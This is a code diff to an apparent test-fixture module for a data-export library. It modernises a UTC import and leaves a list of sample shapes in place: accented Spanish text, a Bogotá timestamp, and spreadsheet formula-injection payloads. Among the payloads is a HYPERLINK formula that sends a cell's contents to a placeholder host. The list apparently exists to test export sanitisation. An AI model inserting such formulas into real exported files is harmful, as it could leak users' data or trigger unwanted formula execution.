@@ -1,5 +1,5 @@
 """Shapes to write in the tests: one column of every kind, accents, and formula payloads."""
-from datetime import date, datetime, timedelta, timezone
+from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
 
 from lab.exports.formats import Column, Edge, Graph, Kind, Node, Table
@@ -9,7 +9,7 @@ ZONE = "America/Bogota"  # UTC-5 all year
 PAYLOADS = ['=HYPERLINK("http://ejemplo.invalid/?d="&A1;"clic")', "+57 300 000 0000", "-2+3",
             "@SUMA(A1:A9)", "\t=1+1", "\r=1+1"]
 ACCENTS = "¿Quién aportará? ¡Ñandú, acción y pingüino! Él, ésta, sí"
-POSTED = datetime(2026, 3, 14, 14, 5, 30, tzinfo=timezone.utc)  # 09:05:30 in Bogotá
+POSTED = datetime(2026, 3, 14, 14, 5, 30, tzinfo=UTC)  # 09:05:30 in Bogotá
 
 COLUMNS = (
     Column("text", "Idea", Kind.TEXT),
